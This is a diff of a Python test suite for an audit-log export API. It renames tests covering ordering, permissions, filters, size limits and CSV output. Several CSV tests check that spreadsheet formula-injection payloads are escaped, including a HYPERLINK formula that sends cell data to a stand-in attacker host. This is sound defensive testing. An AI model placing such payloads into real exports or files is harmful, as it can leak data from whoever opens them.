@@ -21,8 +21,8 @@ COLUMNS = (
 )
 
 
-def entries(api: Api, organization: Founded, **query: Any) -> list[dict[str, Any]]:
-    """The entries of an export in NDJSON."""
+def exported_entries(api: Api, organization: Founded, **query: Any) -> list[dict[str, Any]]:
+    """Return the entries of an export in NDJSON."""
     answer = exported(api, organization, **query)
     assert answer.status == 200, answer.text
     assert answer.text == "" or answer.text.endswith("\n")
@@ -30,23 +30,23 @@ def entries(api: Api, organization: Founded, **query: Any) -> list[dict[str, Any
 
 
 class TestExportAuditLog:
-    def test_it_is_a_file_with_a_line_for_each_entry(self, api: Api, ten: Founded, clock: Clock) -> None:
-        moment = clock.freeze()
+    def test_the_file_has_a_line_for_each_entry(self, api: Api, ten: Founded, clock: Clock) -> None:
+        timestamp = clock.freeze()
         answer = exported(api, ten)
         assert answer.headers["Content-Type"] == "application/x-ndjson"
-        name = f"{ten.record['slug']}-audit-log-{moment[:10]}.ndjson"
+        name = f"{ten.record['slug']}-audit-log-{timestamp[:10]}.ndjson"
         assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
         assert answer.headers["Cache-Control"] == "no-store"
         assert [json.loads(line) for line in answer.text.splitlines()] == log_of(api, ten)[::-1]
 
-    def test_what_has_no_sequence_yet_stands_last(self, api: Api, ten: Founded) -> None:
+    def test_pending_entries_come_last(self, api: Api, ten: Founded) -> None:
         for name in ("First", "Second"):
             api.patch(ten.path, as_=ten.owner, json={"name": name})
-        found_ = entries(api, ten)
-        assert [entry["sequence"] for entry in found_] == [*range(1, 11), None, None]
-        assert [entry["data"]["name"] for entry in found_[-2:]] == ["First", "Second"]
+        listed = exported_entries(api, ten)
+        assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
+        assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]
 
-    def test_it_stands_in_order_of_the_sequence_although_a_clock_is_off(
+    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(
         self, api: Api, ada: Person, clock: Clock, workers: Workers
     ) -> None:
         organization, other = found(api, ada, name="Founded just now"), found(api, ada, name="Other")
@@ -57,16 +57,16 @@ class TestExportAuditLog:
         invite(api, organization, "second@example.org")
         workers.deliver()
         assert [entry["sequence"] for entry in log_of(api, organization)] == [2, 1, 3]
-        assert [entry["sequence"] for entry in entries(api, organization)] == [1, 2, 3]
-        assert len(entries(api, other)) == 1
+        assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]
+        assert len(exported_entries(api, other)) == 1
 
-    def test_long_entries_are_whole(self, api: Api, ada: Person, workers: Workers) -> None:
+    def test_long_entries_are_complete(self, api: Api, ada: Person, workers: Workers) -> None:
         organization = found(api, ada, companyAddress="é" * 3000)
-        assert entries(api, organization) == log_of(api, organization)
+        assert exported_entries(api, organization) == log_of(api, organization)
         workers.deliver()
-        assert entries(api, organization) == log_of(api, organization)
+        assert exported_entries(api, organization) == log_of(api, organization)
 
-    def test_admins_and_keys_with_the_scope_may(
+    def test_only_admins_and_keys_with_the_scope_may_export(
         self, api: Api, organization: Founded, grace: Person, edith: Person, mary: Person, stranger: Person
     ) -> None:
         assert exported(api, organization, as_=grace).status == 200
@@ -78,85 +78,87 @@ class TestExportAuditLog:
             key = make_key(api, organization, scope)
             assert exported(api, organization, as_=key).code == "403 insufficient_scope"
 
-    def test_it_is_no_entry_itself(self, api: Api, organization: Founded) -> None:
+    def test_an_inline_export_is_not_logged(self, api: Api, organization: Founded) -> None:
         before = log_of(api, organization)
         exported(api, organization)
         assert log_of(api, organization) == before
 
-    def test_what_has_not_changed_is_not_sent_again(self, api: Api, ten: Founded) -> None:
-        tag = exported(api, ten).etag
-        path, headers = f"{ten.path}/audit-log/export", {"If-None-Match": tag}
+    def test_an_unchanged_export_is_not_modified(self, api: Api, ten: Founded) -> None:
+        etag = exported(api, ten).etag
+        path, headers = f"{ten.path}/audit-log/export", {"If-None-Match": etag}
         assert api.get(path, as_=ten.owner, headers=headers).status == 304
         api.patch(ten.path, as_=ten.owner, json={"name": "Another"})
         assert api.get(path, as_=ten.owner, headers=headers).status == 200
 
-    @pytest.mark.parametrize("form", ["xml", "", "NDJSON", "ndjson.gz"])
-    def test_another_format_is_refused(self, api: Api, organization: Founded, form: str) -> None:
-        refused = exported(api, organization, format=form)
-        assert refused.code == "422 validation_failed"
-        assert set(refused.faults) == {"query/format"}
+    @pytest.mark.parametrize("export_format", ["xml", "", "NDJSON", "ndjson.gz"])
+    def test_an_unknown_format_is_rejected(self, api: Api, organization: Founded, export_format: str) -> None:
+        rejected = exported(api, organization, format=export_format)
+        assert rejected.code == "422 validation_failed"
+        assert set(rejected.faults) == {"query/format"}
 
-    def test_what_was_altered_beyond_showing_is_left_out(self, api: Api, ten: Founded) -> None:
+    def test_unreadable_entries_are_omitted(self, api: Api, ten: Founded) -> None:
         logs.alter(logs.entry(ten, 3), body=b"no json")
         logs.alter(logs.entry(ten, 5), body=logs.entry(ten, 5)["body"][:-1] + b"\n}")
         item = logs.entry(ten, 7)
         cloud.put({name: value for name, value in item.items() if name != "body"})
-        for form in ("ndjson", "csv"):
-            answer = exported(api, ten, format=form)
-            assert len(answer.text.splitlines()) == 7 + (form == "csv")
+        for export_format in ("ndjson", "csv"):
+            answer = exported(api, ten, format=export_format)
+            assert len(answer.text.splitlines()) == 7 + (export_format == "csv")
 
 
 class TestFilters:
-    def test_they_are_those_of_the_list(self, api: Api, organization: Founded, grace: Person, mary: Person) -> None:
+    def test_the_filters_match_those_of_the_list(
+        self, api: Api, organization: Founded, grace: Person, mary: Person
+    ) -> None:
         for n in range(3):
             api.patch(organization.path, as_=grace, json={"name": f"Name {n}"})
             api.patch(f"{organization.path}/members/{mary.id}", as_=grace, json={"role": ("editor", "member")[n % 2]})
-        moments = sorted(entry["occurredAt"] for entry in log_of(api, organization))
+        timestamps = sorted(entry["occurredAt"] for entry in log_of(api, organization))
         queries: list[dict[str, Any]] = [
             {"type": "organization.updated"},
             {"type": "organization.member.*"},
             {"actorId": grace.id},
             {"targetId": organization.id},
             {"targetId": organization.id, "actorId": grace.id.upper()},
-            {"from": moments[2]},
-            {"to": moments[-3]},
-            {"from": moments[2], "to": moments[-3]},
-            {"type": "organization.*", "actorId": grace.id, "from": moments[4], "to": moments[-2]},
-            {"from": moments[2], "to": moments[2]},
+            {"from": timestamps[2]},
+            {"to": timestamps[-3]},
+            {"from": timestamps[2], "to": timestamps[-3]},
+            {"type": "organization.*", "actorId": grace.id, "from": timestamps[4], "to": timestamps[-2]},
+            {"from": timestamps[2], "to": timestamps[2]},
             {"actorId": "nobody"},
         ]
         for query in queries:
-            assert entries(api, organization, **query) == log_of(api, organization, **query)[::-1], query
+            assert exported_entries(api, organization, **query) == log_of(api, organization, **query)[::-1], query
 
-    def test_a_page_of_the_list_is_none(self, api: Api, ten: Founded) -> None:
-        assert len(entries(api, ten, limit=1)) == 10
+    def test_the_limit_of_the_list_is_ignored(self, api: Api, ten: Founded) -> None:
+        assert len(exported_entries(api, ten, limit=1)) == 10
 
     @pytest.mark.parametrize("query", [{"type": "*.member"}, {"from": "yesterday"}, {"to": "2026-11-20"}])
-    def test_one_that_is_none_is_refused(self, api: Api, organization: Founded, query: dict[str, Any]) -> None:
-        refused = exported(api, organization, **query)
-        assert refused.code == "422 validation_failed"
-        assert set(refused.faults) == {f"query/{name}" for name in query}
+    def test_an_invalid_filter_is_rejected(self, api: Api, organization: Founded, query: dict[str, Any]) -> None:
+        rejected = exported(api, organization, **query)
+        assert rejected.code == "422 validation_failed"
+        assert set(rejected.faults) == {f"query/{name}" for name in query}
 
-    def test_a_beginning_after_the_end_is_refused(self, api: Api, organization: Founded) -> None:
+    def test_a_range_that_starts_after_its_end_is_rejected(self, api: Api, organization: Founded) -> None:
         query: dict[str, Any] = {"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}
-        refused = exported(api, organization, **query)
-        assert (refused.code, refused.faults) == ("422 validation_failed", {"query/from": "out_of_range"})
+        rejected = exported(api, organization, **query)
+        assert (rejected.code, rejected.faults) == ("422 validation_failed", {"query/from": "out_of_range"})
 
-    def test_an_entry_of_no_other_log_passes(self, api: Api, ada: Person, stranger: Person) -> None:
-        theirs, own = found(api, ada), found(api, stranger)
-        for value in (theirs.id, f"x#A#{theirs.id}", "{log_id}"):
-            assert entries(api, own, targetId=value) == []
+    def test_a_target_filter_can_not_reach_another_log(self, api: Api, ada: Person, stranger: Person) -> None:
+        other_log, own_log = found(api, ada), found(api, stranger)
+        for value in (other_log.id, f"x#A#{other_log.id}", "{log_id}"):
+            assert exported_entries(api, own_log, targetId=value) == []
 
 
-class TestAsCsv:
-    def test_it_says_what_the_lines_of_ndjson_say(self, api: Api, ten: Founded, grace: Person) -> None:
+class TestCsv:
+    def test_a_csv_row_has_the_fields_of_the_ndjson_line(self, api: Api, ten: Founded, grace: Person) -> None:
         joins(ten, grace, "admin")
         answer = exported(api, ten, format="csv")
         assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
         assert answer.headers["Content-Disposition"].endswith('.csv"')
         assert answer.text.splitlines()[0] == COLUMNS
         table = rows(answer.text)
-        for row, entry in zip(table, entries(api, ten), strict=True):
+        for row, entry in zip(table, exported_entries(api, ten), strict=True):
             assert row["sequence"] == str(entry["sequence"] or "")
             assert (row["id"], row["occurredAt"], row["type"]) == (entry["id"], entry["occurredAt"], entry["type"])
             for name in ("type", "id", "name"):
@@ -173,59 +175,59 @@ class TestAsCsv:
     @pytest.mark.parametrize(
         "text", ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
     )
-    def test_what_a_spreadsheet_would_take_for_a_formula_is_none(self, api: Api, ada: Person, text: str) -> None:
+    def test_formulas_are_escaped(self, api: Api, ada: Person, text: str) -> None:
         organization = found(api, ada, name=text, slug="engines")
         (row,) = rows(exported(api, organization, format="csv").text)
         assert row["targetName"] == f"'{text.strip()}"
 
     @pytest.mark.parametrize("text", ["a;=1+1", "a|+1", 'a;"-1', "a ; @A1"])
-    def test_nor_is_what_stands_behind_a_separator_of_another_kind(self, api: Api, ada: Person, text: str) -> None:
+    def test_formulas_after_other_separators_are_escaped(self, api: Api, ada: Person, text: str) -> None:
         organization = found(api, ada, name=text, slug="engines")
         line = exported(api, organization, format="csv").text.splitlines()[1]
-        behind = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
-        assert behind
-        assert not any(part.startswith(("=", "+", "-", "@")) for part in behind)
+        fields = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
+        assert fields
+        assert not any(part.startswith(("=", "+", "-", "@")) for part in fields)
 
-    def test_a_user_agent_is_no_formula_either(self, api: Api, organization: Founded) -> None:
+    def test_a_formula_in_a_user_agent_is_escaped(self, api: Api, organization: Founded) -> None:
         agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
         api.patch(organization.path, as_=organization.owner, json={"name": "B"}, headers={"User-Agent": agent})
         assert rows(exported(api, organization, format="csv").text)[-1]["userAgent"] == f"'{agent}"
 
-    def test_an_empty_one_still_has_its_columns(self, api: Api, organization: Founded) -> None:
+    def test_an_empty_csv_has_the_header(self, api: Api, organization: Founded) -> None:
         assert exported(api, organization, format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"
 
 
-class TestWhatIsTooLarge:
-    def refused(self, api: Api, organization: Founded, why: str, **query: Any) -> None:
-        refused = exported(api, organization, **query)
-        assert refused.code == "409 export_too_large"
-        assert why in refused.json["detail"]
-        assert f"POST {organization.path}/audit-log/export-async" in refused.json["detail"]
+class TestTooLargeExports:
+    def assert_too_large(self, api: Api, organization: Founded, reason: str, **query: Any) -> None:
+        rejected = exported(api, organization, **query)
+        assert rejected.code == "409 export_too_large"
+        assert reason in rejected.json["detail"]
+        assert f"POST {organization.path}/audit-log/export-async" in rejected.json["detail"]
 
-    def test_is_what_the_contract_says(self) -> None:
+    def test_the_limits_are_those_of_the_contract(self) -> None:
         assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)
 
-    def test_more_entries_than_fit_are_refused(self, api: Api, ten: Founded, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_too_many_entries_are_rejected(self, api: Api, ten: Founded, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
-        assert len(entries(api, ten)) == 10
+        assert len(exported_entries(api, ten)) == 10
         api.patch(ten.path, as_=ten.owner, json={"name": "One more"})
-        self.refused(api, ten, "more than 10 entries")
-        assert len(entries(api, ten, type="organization.updated")) == 10
+        self.assert_too_large(api, ten, "more than 10 entries")
+        assert len(exported_entries(api, ten, type="organization.updated")) == 10
 
-    @pytest.mark.parametrize("letters", [100, 6_000])
-    def test_more_bytes_than_fit_are_refused(
-        self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch, letters: int
+    @pytest.mark.parametrize("char_count", [100, 6_000])
+    def test_too_many_bytes_are_rejected(
+        self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch, char_count: int
     ) -> None:
         organization = found(api, ada)
-        fill(organization.id, 30, letters)
+        fill(organization.id, 30, char_count)
         size = len(exported(api, organization).text.encode())
         monkeypatch.setattr(inline_export, "MAX_BYTES", size)
-        assert len(entries(api, organization)) == 31
-        for most in (size - 1, size // 3):
-            monkeypatch.setattr(inline_export, "MAX_BYTES", most)
-            self.refused(api, organization, f"more than {most:,} bytes")
+        assert len(exported_entries(api, organization)) == 31
+        for max_bytes in (size - 1, size // 3):
+            monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
+            self.assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
 
-    def test_it_holds_less_if_its_letters_take_more_room_on_the_way(
+    def test_escaped_characters_count_with_their_encoded_size(
         self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch
     ) -> None:
         organization = found(api, ada, name="🚂" * 200, slug="trains")
@@ -233,24 +235,26 @@ class TestWhatIsTooLarge:
         monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
         assert exported(api, organization).text == text
         monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
-        self.refused(api, organization, "than a response can be")
+        self.assert_too_large(api, organization, "than a response can be")
 
-    def test_a_filter_that_hardly_anything_passes_is_not_looked_for_without_end(
+    def test_a_filter_that_matches_few_entries_has_a_query_limit(
         self, api: Api, ada: Person, grace: Person, monkeypatch: pytest.MonkeyPatch
     ) -> None:
         organization = found(api, ada)
         joins(organization, grace, "admin")
         fill(organization.id, 250, 6_000)
-        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 99)  # By pages of so many.
+        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 99)  # This is also the page size of the queries.
         monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
-        assert len(entries(api, organization, type="organization.invitation.*")) == 1
+        assert len(exported_entries(api, organization, type="organization.invitation.*")) == 1
         monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
-        self.refused(api, organization, "too long to be searched", type="organization.invitation.*")
-        assert len(entries(api, organization, type="organization.invitation.accepted")) == 1
+        self.assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
+        assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1
 
-    def test_it_asks_for_no_more_once_it_knows(self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_reading_stops_once_the_limit_is_exceeded(
+        self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
         organization = found(api, ada)
         fill(organization.id, 400, 6_000)
         monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
-        refused = exported(api, organization)
-        assert refused.calls.names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
+        rejected = exported(api, organization)
+        assert rejected.calls.names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
